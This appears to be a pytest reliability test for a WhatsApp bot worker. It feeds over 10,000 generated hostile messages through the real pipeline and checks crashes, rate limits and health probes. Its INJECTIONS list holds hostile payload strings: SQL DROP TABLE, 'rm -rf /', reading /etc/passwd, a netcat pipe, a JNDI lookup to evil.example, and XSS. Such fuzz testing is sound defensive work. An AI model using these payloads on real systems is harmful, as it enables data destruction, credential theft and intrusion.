"""3. Hostile messages through the real worker pipeline.

A seeded generator makes >= 10,000 messages from people who want the bot to fall over: huge
texts, invalid UTF-8 on the wire (lone surrogates as CESU bytes, stray FF FE, overlong and
truncated sequences, also in the sender's name and the message ID), control characters,
RTL/zero-width/combining characters, homoglyph and fullwidth prefixes, injection-looking
arguments, redeliveries, group/own/broadcast messages, and floods of thousands from one chat.
Each is a real neonize MessageEv protobuf, serialized and handed to neonize's own dispatcher
(`client.event.execute`) exactly as its Go side does; replies are recorded at the one network
seam (neonize's `send_message`, see tests/worker/conftest.py).

Time: the sender's clock (`Sender(clock=...)`, the rate limiter's only time source) is a
virtual clock that advances with the traffic, so ~10 virtual minutes of rate limiting are
checked in well under a minute; /livez is polled over real HTTP throughout.
"""

from __future__ import annotations

import importlib
import logging
import random
import threading
import time
import urllib.request
from collections import Counter, defaultdict
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from neonize.events import MessageEv
from prometheus_client.parser import text_string_to_metric_families

from botworker.worker import Worker
from tests.reliability import figures, sizes
from tests.worker.conftest import (
    PLUGIN_DIR,
    dispatch,
    dispatch_raw,
    message_ev,
    recording_client,
    wait_for,
    worker_config,
)
from wabot.spec import WhatsAppBotSpec

SECTION = "hostile"
pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]

PER_CHAT, PER_BOT = 12, 240
MESSAGES_PER_VIRTUAL_MINUTE = 1000  # so 20,000 messages span 20 virtual minutes
FLOODER = "15550009999"

INJECTIONS = [
    "'; DROP TABLE audit_entry; --", "\" OR 1=1 --", "x'); DROP TABLE key_value; --",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}",
    "$(rm -rf /)", "`id`", "; cat /etc/passwd", "| nc evil 4444", "&& shutdown -h now",
    "%s%s%s%n", "%x%x%x", "{0.__class__.__mro__}", "__import__('os').system('id')",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "\r\nSet-Cookie: a=b", "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\\", "\\\\\\", "'", "\"", "'\"'\"", "\"unterminated", "a\\", "\u0000", "null", "None",
    "NaN", "-1", "99999999999999999999999999", "1e309", "[]", "{}", "🙂" * 50,
]
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c",
             "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff", "\u00ad"]
CONTROLS = [chr(c) for c in [*range(0, 32), 127, *range(0x80, 0xA0)]]
BAD_UTF8 = [b"\xff", b"\xfe", b"\xff\xfe", b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xc0\xaf",
            b"\xe2\x82", b"\xf4\x90\x80\x80", b"\x80", b"\xf0\x9f\x98"]
COMMANDS = ["ping", "help", "menu", "info", "echo", "say", "note", "ctx", "hello"]
WORDS = ["hi", "hello", "price?", "order 42", "ok", "thanks", "?", "!", "!!", "! ping", "ping"]


@dataclass
class Msg:
    text: str
    chat: str
    msg_id: str
    group: bool = False
    from_me: bool = False
    server: str = "s.whatsapp.net"
    raw: dict[str, bytes] | None = None  # placeholder -> invalid bytes on the wire
    kind: str = ""


class Generator:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.n = 0
        self.recent_ids: list[tuple[str, str]] = []

    def _id(self) -> str:
        self.n += 1
        return f"H{self.n:07d}"

    def _chat(self) -> str:
        return f"1555{self.rng.randrange(10**6, 10**7)}" if self.rng.random() < 0.3 else \
            f"1555000{self.rng.randrange(0, 400):04d}"

    def _args(self) -> str:
        r = self.rng
        parts = [r.choice(INJECTIONS) if r.random() < 0.6 else r.choice(WORDS)
                 for _ in range(r.randint(0, 6))]
        return " ".join(parts)

    def one(self) -> Msg:
        r = self.rng
        kind = r.choices(
            ["chatter", "command", "injection", "huge_command", "huge_text", "unicode",
             "controls", "bad_utf8", "group", "own", "broadcast", "no_id", "redelivery",
             "many_args", "unknown"],
            weights=[12, 14, 14, 2, 1, 10, 8, 8, 4, 3, 2, 2, 4, 3, 6])[0]
        chat, mid = self._chat(), self._id()
        cmd = r.choice(COMMANDS)
        if kind == "chatter":
            m = Msg(" ".join(r.choice(WORDS) for _ in range(r.randint(1, 8))), chat, mid)
        elif kind == "command":
            m = Msg(f"!{cmd} {self._args()}".strip(), chat, mid)
        elif kind == "injection":
            text = f"!{r.choice(['echo', 'note', 'ctx', 'hello'])} {self._args()}"
            if cmd == "note":
                text = f"!note {r.choice(INJECTIONS)[:20].replace(' ', '_')} {self._args()}"
            m = Msg(text, chat, mid)
        elif kind == "huge_command":
            m = Msg(f"!echo {r.choice('xé🙂')* r.randint(4097, 70_000)}", chat, mid)
        elif kind == "huge_text":
            m = Msg(r.choice(["A", "é", "🙂", "\u202e"]) * r.randint(100_000, 1_000_000),
                    chat, mid)
        elif kind == "unicode":
            junk = "".join(r.choice(INVISIBLE) for _ in range(r.randint(1, 8)))
            zalgo = "".join(chr(r.randrange(0x300, 0x370)) for _ in range(r.randint(0, 300)))
            variants = [f"!{cmd}{junk} {zalgo}", f"{junk}!{cmd}", f"!{junk}{cmd}",
                        f"\uff01{cmd}", "!\u0440ing", f"!pi\u0301ng {zalgo}",
                        f"!echo \u202eevil\u202c {junk}", f"!{cmd.upper()}",
                        f"!echo {'👨‍👩‍👧‍👦' * r.randint(1, 200)}", "!echo \U0001d573\U000e0001"]
            m = Msg(r.choice(variants), chat, mid)
        elif kind == "controls":
            ctl = "".join(r.choice(CONTROLS) for _ in range(r.randint(1, 20)))
            m = Msg(r.choice([f"!{cmd} {ctl}", f"{ctl}!{cmd}", f"!ec{ctl}ho a{ctl}b",
                              f"!echo {ctl}"]), chat, mid)
        elif kind == "bad_utf8":
            where = r.choice(["text", "text", "pushname", "id"])
            bad = b"".join(r.choice(BAD_UTF8) for _ in range(r.randint(1, 5)))
            if where == "id":
                m = Msg(f"!{cmd}", chat, "IDXXXXXXX" + mid, raw={"IDXXXXXXX": bad})
            elif where == "pushname":
                m = Msg(f"!{cmd}", chat, mid, raw={"Tester": bad})
            else:
                m = Msg(f"!echo ZZZZZZZ {self._args()}", chat, mid, raw={"ZZZZZZZ": bad})
        elif kind == "group":
            m = Msg(f"!{cmd}", f"1203630{r.randrange(10**9)}", mid, group=True)
        elif kind == "own":
            m = Msg(f"!{cmd}", chat, mid, from_me=True)
        elif kind == "broadcast":
            m = Msg(f"!{cmd}", "status", mid, server="broadcast")
        elif kind == "no_id":
            m = Msg(f"!{cmd}", chat, "")
        elif kind == "redelivery" and self.recent_ids:
            chat, mid = r.choice(self.recent_ids)
            m = Msg("!ping", chat, mid)
        elif kind == "many_args":
            m = Msg("!echo " + " ".join(f"'{i}" if i % 7 == 0 else str(i)
                                        for i in range(r.randint(33, 2000))), chat, mid)
        else:
            name = "".join(r.choice("abcxyz_-é") for _ in range(r.randint(1, 40)))
            m = Msg(f"!{name} {self._args()}", chat, mid)
        m.kind = kind
        if kind != "redelivery" and m.msg_id and not m.group:
            self.recent_ids = [*self.recent_ids[-50:], (m.chat, m.msg_id)]
        return m


def to_event(m: Msg) -> tuple[Any, bytes | None]:
    ev = message_ev(m.text, chat=m.chat, msg_id=m.msg_id or None, group=m.group,
                    from_me=m.from_me, server=m.server)
    if not m.msg_id:
        ev.Info.ID = ""
    if not m.raw:
        return ev, None
    data = ev.SerializePartialToString()
    for placeholder, bad in m.raw.items():
        # Same length, so every enclosing length prefix stays right: only the bytes are bad.
        size = len(placeholder.encode())
        data = data.replace(placeholder.encode(), (bad + b"\x80" * size)[:size])
    return ev, data


class VirtualClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def bucket_bound_violations(times: list[float], per_minute: int) -> int:
    """Sends that break the token bucket's promise: in any window [t_i, t_j] at most
    per_minute + per_minute * (t_j - t_i) / 60 sends. O(n) with a running minimum."""
    rate = per_minute / 60.0
    bad = 0
    best = float("inf")  # min over i <= j of (i - rate * t_i)
    for j, t in enumerate(sorted(times)):
        best = min(best, j - rate * t)
        if (j - rate * t) - best + 1 > per_minute + 1e-6:
            bad += 1
    return bad


def max_in_window(times: list[float], window: float = 60.0) -> int:
    ts = sorted(times)
    most, i = 0, 0
    for j, t in enumerate(ts):
        while t - ts[i] >= window:
            i += 1
        most = max(most, j - i + 1)
    return most


class LogCatcher(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture
def plugins_on_path(monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.syspath_prepend(str(PLUGIN_DIR))
    importlib.invalidate_caches()
    return PLUGIN_DIR


@pytest.fixture
def catcher() -> Iterator[LogCatcher]:
    handler = LogCatcher()
    root = logging.getLogger("wabot.worker")
    root.addHandler(handler)
    yield handler
    root.removeHandler(handler)


def metric_samples(worker: Worker) -> dict[tuple[str, tuple[tuple[str, str], ...]], float]:
    out = {}
    for fam in text_string_to_metric_families(worker.metrics.render().decode()):
        for s in fam.samples:
            labels = tuple(sorted((k, v) for k, v in s.labels.items()
                                  if k not in ("bot", "server_name")))
            out[(s.name, labels)] = s.value
    return out


def test_ten_thousand_hostile_messages_crash_nothing_and_rate_limits_hold(
        tmp_path: Path, plugins_on_path: Path, catcher: LogCatcher) -> None:
    figures.section(SECTION, "3. Hostile messages through the real pipeline")
    rng = random.Random(sizes.SEED)
    total = sizes.HOSTILE_MESSAGES
    spec = WhatsAppBotSpec.model_validate({
        "serverName": "tenant-h", "botId": "bot-h",
        "rateLimit": {"perChatPerMinute": PER_CHAT, "perBotPerMinute": PER_BOT},
        "commands": {"plugins": ["echo", "notes", "context"],
                     "custom": [{"name": "hello", "response": "Hi {{7*7}} $(id) %s"}]},
    })
    cfg = worker_config(tmp_path / "bot", "bot-h", "tenant-h")
    cfg.session_dir.mkdir(parents=True, exist_ok=True)
    client = recording_client(str(cfg.session_path.parent / "session.sqlite3"))
    worker = Worker(cfg, spec, client=client, sessions_enabled=False, terminal=False)
    clock = VirtualClock()
    worker.sender._clock = clock  # the Sender's clock seam: the rate limiter's time source
    local = threading.local()
    acquire = worker.limiter.try_acquire

    def try_acquire(chat: str, now: float) -> str | None:
        local.now = now
        return acquire(chat, now)

    worker.limiter.try_acquire = try_acquire  # type: ignore[method-assign]
    sends: list[tuple[float, str, str, str]] = []  # (virtual time, chat, text, quoted id)
    send = client.send_message

    def timed_send(to: Any, message: Any, *a: Any, **kw: Any) -> Any:
        if isinstance(message, str):  # a plain send (e.g. a reply that cannot quote)
            sends.append((local.now, to.User, message, ""))
            return send(to, message, *a, **kw)
        text = message.extendedTextMessage.text or message.conversation
        sends.append((local.now, to.User, text,
                      message.extendedTextMessage.contextInfo.stanzaID))
        return send(to, message, *a, **kw)

    client.send_message = timed_send
    worker.start()
    try:
        from neonize.events import ConnectedEv

        dispatch(client, ConnectedEv(status=True))
        wait_for(lambda: worker.ready()[0], what="worker ready")
        # The notes plugin writes the injection strings to the bot's database (SQLite here).
        wait_for(worker.datalayer.ensure_schema, timeout=60, what="database schema")
        assert worker.http is not None
        livez = f"http://127.0.0.1:{worker.http.port}/livez"
        probes = Counter[str]()
        stop = threading.Event()

        def probe() -> None:
            while not stop.is_set():
                try:
                    with urllib.request.urlopen(livez, timeout=5) as r:
                        probes["ok" if r.status == 200 else f"http {r.status}"] += 1
                except Exception as e:
                    probes[type(e).__name__] += 1
                stop.wait(0.2)

        prober = threading.Thread(target=probe, daemon=True)
        prober.start()

        gen = Generator(rng)
        kinds = Counter[str]()
        dispatched = 0
        per_msg = 60.0 / MESSAGES_PER_VIRTUAL_MINUTE
        flood_at = {int(total * f) for f in (0.25, 0.6)}
        batch = 25
        started = time.monotonic()

        def settle() -> None:
            for _ in range(3):
                wait_for(worker.pipeline.idle, timeout=60, what="pipeline idle")
                time.sleep(0.002)

        def feed(m: Msg) -> None:
            nonlocal dispatched
            ev, raw = to_event(m)
            if raw is None:
                dispatch(client, ev)
            else:
                dispatch_raw(client, MessageEv, raw)
            dispatched += 1
            kinds[m.kind] += 1

        while dispatched < total:
            if any(dispatched <= f < dispatched + batch for f in flood_at):
                # A flood: thousands from one chat at one instant, without waiting for the
                # pipeline (neonize's callback must never block: a full queue drops).
                n = min(rng.randint(1000, 2000), total - dispatched)
                for i in range(n):
                    feed(Msg(rng.choice(["!ping", "!echo flood", "spam", "!hello"]), FLOODER,
                             f"F{dispatched}-{i}", kind="flood"))
                settle()
                clock.now += 5.0
                continue
            for _ in range(min(batch, total - dispatched)):
                feed(gen.one())
            settle()
            clock.now += per_msg * batch
        settle()
        elapsed = time.monotonic() - started
        stop.set()
        prober.join(10)
        live = worker.live()
        alive = worker.pipeline.alive
    finally:
        worker.stop(5.0)

    m = metric_samples(worker)
    received = m.get(("wabot_messages_received_total", ()), 0)
    sent_metric = m.get(("wabot_messages_sent_total", ()), 0)
    drops = {dict(k[1])["reason"]: int(v) for k, v in m.items()
             if k[0] == "wabot_messages_dropped_total" and v}
    results = Counter[str]()
    for (name, labels), v in m.items():
        if name == "wabot_commands_total" and v:
            results[dict(labels)["result"]] += int(v)
    send_errors = Counter(str(getattr(r, "error", ""))[:80] for r in catcher.records
                          if r.getMessage() == "send failed")
    unquoted = int(sum(v for k, v in m.items() if k[0] == "wabot_replies_unquoted_total"))
    unquoted_logs = sum(1 for r in catcher.records if "without quoting" in r.getMessage())
    crashes = [r for r in catcher.records if r.getMessage() in (
        "message processing failed", "could not enqueue a message")]
    handler_errors = results.get("error", 0)

    per_chat: dict[str, list[float]] = defaultdict(list)
    for t, chat, _text, _q in sends:
        per_chat[chat].append(t)
    bot_times = [t for t, *_ in sends]
    chat_violations = sum(bucket_bound_violations(ts, PER_CHAT) for ts in per_chat.values())
    bot_violations = bucket_bound_violations(bot_times, PER_BOT)
    max_chat_60 = max((max_in_window(ts) for ts in per_chat.values()), default=0)
    max_bot_60 = max_in_window(bot_times)
    # After the first minute the buckets have spent their initial burst: a steady rate.
    first = min(bot_times) if bot_times else 0.0
    steady_bot = max_in_window([t for t in bot_times if t >= first + 60])
    quoted = Counter(q for *_, q in sends if q)
    answered_twice = [q for q, n in quoted.items() if n > 1]
    bad_texts = [t for _, _, t, _ in sends
                 if any(0xD800 <= ord(c) <= 0xDFFF for c in t)
                 or any(ord(c) < 32 and c not in "\n\t" for c in t)]
    flooder_sends = len(per_chat.get(FLOODER, []))

    figures.record(SECTION, "messages dispatched (real MessageEv, neonize dispatcher)",
                   dispatched)
    figures.record(SECTION, "by kind", ", ".join(f"{k} {n}" for k, n in kinds.most_common()))
    figures.record(SECTION, "received (wabot_messages_received_total)", int(received))
    figures.record(SECTION, "commands by result", ", ".join(
        f"{k} {n}" for k, n in results.most_common()))
    figures.record(SECTION, "sends (recorded at neonize send_message / metric)",
                   f"{len(sends)} / {int(sent_metric)}")
    figures.record(SECTION, "drops by reason", ", ".join(
        f"{k} {n}" for k, n in sorted(drops.items(), key=lambda kv: -kv[1])))
    figures.record(SECTION, "worker crashes (pipeline exceptions, dead threads)",
                   f"{len(crashes)} exceptions, pipeline alive {alive}, live() {live}")
    figures.record(SECTION, "/livez polls over HTTP", ", ".join(
        f"{k} {n}" for k, n in probes.items()))
    figures.record(SECTION, "command handler errors", handler_errors)
    figures.record(SECTION, "replies that could not be sent, by error", ", ".join(
        f"{e!r} {n}" for e, n in send_errors.most_common(3)) or "0")
    figures.record(SECTION, "replies sent unquoted (the quote could not be built)",
                   f"{unquoted} (wabot_replies_unquoted_total; {unquoted_logs} warnings, one "
                   "per message)")
    if unquoted:
        figures.note(SECTION, "a message whose ID is invalid UTF-8 is answered without quoting "
                     "it: neonize cannot build a quote of an ID it cannot decode, so the worker "
                     "sends the same reply unquoted (botworker/runtime/sender.py)")
    figures.record(SECTION, "virtual time covered / wall time",
                   f"{(clock.now - 1000) / 60:.1f} min / {elapsed:.1f} s")
    figures.record(SECTION, f"per chat: limit {PER_CHAT}/min, most in any 60 s",
                   f"{max_chat_60} (flooder got {flooder_sends} replies from "
                   f"{kinds['flood']} messages)")
    figures.record(SECTION, f"per bot: limit {PER_BOT}/min, most in any 60 s "
                   "(all / after the first minute)", f"{max_bot_60} / {steady_bot}")
    figures.record(SECTION, "token-bucket bound broken (chat / bot)",
                   f"{chat_violations} / {bot_violations} "
                   "(bound: N + N*T/60 sends in any window of T s)")
    figures.record(SECTION, "a message answered twice / replies with surrogates or controls",
                   f"{len(answered_twice)} / {len(bad_texts)}")

    assert dispatched >= total
    assert received == dispatched
    assert crashes == [], [r.getMessage() for r in crashes[:5]]
    assert alive and live == (True, "")
    assert probes and set(probes) == {"ok"}, probes
    assert handler_errors == 0
    # Every reply that passed the rate limits went out: an unquotable ID is no reason to fail.
    assert drops.get("send_failed", 0) == 0 and not send_errors, send_errors.most_common(3)
    assert unquoted > 0 and 0 < unquoted_logs <= unquoted
    assert len(sends) == sent_metric and sends
    assert chat_violations == 0 and bot_violations == 0
    assert max_chat_60 <= 2 * PER_CHAT and max_bot_60 <= 2 * PER_BOT
    assert answered_twice == []
    assert bad_texts == []
    assert flooder_sends <= PER_CHAT * (1 + 10)  # the burst plus at most the refill
